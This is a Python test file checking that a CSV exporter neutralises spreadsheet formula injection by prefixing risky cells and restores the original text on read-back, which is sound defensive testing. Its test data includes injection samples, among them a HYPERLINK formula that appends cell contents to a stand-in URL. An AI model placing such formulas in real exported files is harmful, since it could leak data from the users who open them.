"""A spreadsheet that opens an exported table runs nothing, and what gait reads back is what was written."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from gait.runtime.csv_file import original_text, write_csv

FORMULAS = ["=1+1", "+49 170", "-2", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x.invalid?"&A1)', "'=1", "''-"]
PLAIN = ["", "plain", "it's", "'quoted'", "'", "a=b", "3 - 4", "Łucja", "semi;colon, comma", "two\nlines"]


@pytest.mark.parametrize("kind", ["object", "string", "category"])
def test_text_that_looks_like_a_formula_is_neutralised_and_read_back(kind: str, tmp_path: Path) -> None:
    table = pd.DataFrame({"note": pd.Series(FORMULAS + PLAIN, dtype=kind), "angle_deg": -1.5})
    write_csv(table, tmp_path / "table.csv")
    with (tmp_path / "table.csv").open(newline="", encoding="utf-8") as file:
        cells = [row[0] for row in csv.reader(file)][1:]
    assert cells == [f"'{text}" for text in FORMULAS] + PLAIN
    read = original_text(pd.read_csv(tmp_path / "table.csv", keep_default_na=False))
    assert read.note.tolist() == FORMULAS + PLAIN


def test_numbers_and_empty_cells_stay_as_they_are(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "angle_deg": [-3.25, 4.0, None],
            "count": pd.array([-1, 2, None], dtype="Int64"),
            "mixed": [-7, None, "-7"],
            "used": [True, False, True],
        }
    )
    write_csv(table, tmp_path / "table.csv", float_format="%.2f")
    assert (tmp_path / "table.csv").read_text().splitlines() == [
        "angle_deg,count,mixed,used",
        "-3.25,-1,-7,True",
        "4.00,2,,False",
        ",,'-7,True",
    ]
    assert table.mixed.tolist() == [-7, None, "-7"]
